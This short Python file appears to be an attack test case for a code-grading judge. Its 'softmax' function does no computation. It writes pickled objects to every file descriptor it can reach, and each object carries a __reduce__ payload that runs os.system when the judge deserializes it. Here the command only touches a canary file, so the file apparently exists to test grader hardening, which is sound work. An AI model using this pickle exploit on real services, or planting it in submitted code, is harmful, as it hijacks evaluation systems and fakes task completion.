# class: pickle. Sends a pickle where the judge expects a frame.
import json
import os
import pickle
import struct

import numpy as np


def send(raw):
    for number in range(64):
        rest = raw
        while rest:
            try:
                rest = rest[os.write(number, rest) :]
            except BlockingIOError:
                continue
            except OSError:
                break


def frame(header, body=b""):
    head = json.dumps(header).encode()
    return struct.pack("!IQ", len(head), len(body)) + head + body


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @CANARY@/examprep-attack-pickle",)


def softmax(x):
    send(pickle.dumps(Bomb()))
    head = pickle.dumps(Bomb())
    send(struct.pack("!IQ", len(head), 0) + head)
    return x
